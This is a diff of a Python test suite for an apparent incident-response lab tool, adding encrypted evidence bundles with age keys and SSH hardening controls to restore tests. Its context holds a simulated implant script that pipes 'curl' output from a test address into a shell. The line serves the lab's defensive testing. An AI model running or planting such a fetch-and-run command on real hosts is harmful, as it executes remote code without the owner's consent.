@@ -36,6 +36,9 @@ LAB = "inc"
 CASE = "IR-LAB-1"
 ROOT = Path(__file__).parents[2]
 CONTACTS = ROOT / "inventories/example/contacts.yml"
+# the profile is re-applied in full by default; a lab test re-applies two controls of it
+# (the hardened flavour passes them already), which keeps the harden step short
+CONTROLS = ("--controls", "ssh.permit-root-login,ssh.max-auth-tries")
 SCHEMA = json.loads((ROOT / "tests/data/iodef/rfc8727-schema.json").read_text())
 IMPLANT = b"#!/bin/sh\n# test_lab_incident implant\ncurl -s http://198.51.100.7/x | sh\n"
 SLOW = "37.125"  # the sleep the host dies in, found by its argument
@@ -104,11 +107,23 @@ def tampered(response: Response) -> str:
 def test_evidence_collected_and_verified_by_stock_tools(response: Response) -> None:
     artifacts = response.work / "artifacts.yaml"
     artifacts.write_text(ARTIFACTS)
+    identity = response.work / "cert-age.key"
+    made = subprocess.run(["age-keygen", "-o", str(identity)], capture_output=True, text=True,
+                          check=True)
+    recipient = made.stderr.split("Public key: ")[1].strip()
     proc = run_cli("evidence", "-i", str(response.lab.inventory), "--case", CASE,
                    "--artifacts", str(artifacts), "--from-hunt", str(response.hunt),
-                   "--out", str(response.cases), "--keys", str(response.keys))
+                   "--out", str(response.cases), "--keys", str(response.keys),
+                   "--encrypt-to", recipient)
     assert proc.returncode == 0, proc.stdout + proc.stderr
     bundle = response.cases / CASE / response.host
+    clear = response.work / "decrypted"
+    clear.mkdir()
+    opened = subprocess.run(f"age -d -i {identity} {bundle}.tar.age | tar -x -C {clear}",
+                            shell=True, capture_output=True, text=True, check=False)
+    assert opened.returncode == 0, opened.stderr
+    assert (clear / response.host / "MANIFEST.sha256").read_bytes() == \
+        (bundle / "MANIFEST.sha256").read_bytes()
     sums = subprocess.run(["sha256sum", "--strict", "-c", "MANIFEST.sha256"], cwd=bundle,
                           capture_output=True, text=True, check=False)
     assert sums.returncode == 0, sums.stdout
@@ -160,8 +175,8 @@ def test_report_opens_in_chromium_with_the_record_counts(response: Response) -> 
 
 def test_restore_check_changes_nothing(response: Response) -> None:
     proc = run_cli("restore", "-i", str(response.lab.inventory), "--limit", response.host,
-                   "--case", CASE, "--cases", str(response.cases), "--check", "--iocs",
-                   str(response.iocs), "--out", str(response.work / "restore-check"),
+                   "--case", CASE, "--cases", str(response.cases), "--check", *CONTROLS,
+                   "--iocs", str(response.iocs), "--out", str(response.work / "restore-check"),
                    timeout=600)
     assert proc.returncode == 0, proc.stdout + proc.stderr
     assert "would reinstall assessor-demo=1.0-1" in proc.stdout
@@ -171,7 +186,7 @@ def test_restore_check_changes_nothing(response: Response) -> None:
 def test_restore_brings_md5sums_back_and_is_recorded(response: Response) -> None:
     started = time.monotonic()
     proc = run_cli("restore", "-i", str(response.lab.inventory), "--limit", response.host,
-                   "--case", CASE, "--cases", str(response.cases), "--iocs",
+                   "--case", CASE, "--cases", str(response.cases), *CONTROLS, "--iocs",
                    str(response.iocs), "--out", str(response.work / "restore"), timeout=900)
     took = time.monotonic() - started
     (run_dir,) = (response.work / "restore").iterdir()
